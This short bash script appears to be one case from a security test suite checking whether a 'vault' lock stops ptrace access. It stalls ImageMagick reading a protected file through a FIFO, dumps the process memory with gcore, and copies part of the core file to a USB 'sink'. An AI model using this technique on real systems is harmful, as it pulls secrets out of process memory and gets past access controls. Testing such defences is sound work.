#!/usr/bin/env bash
# technique: gcore, a debugger, writes the memory of the named program to a file that is copied
# hooks: ptrace_access_check
# lock: vault
# sink: usb

. attack.sh
mkfifo "$ROOM/slow"
convert-im6.q16 "$MASTER" "rgb:$ROOM/slow" &
sleep 1
timeout 8 gcore -o "$ROOM/core" $! >/dev/null
for core in "$ROOM"/core.*; do
    [ ! -e "$core" ] || head -c 4M "$core" >"$COPY"
done
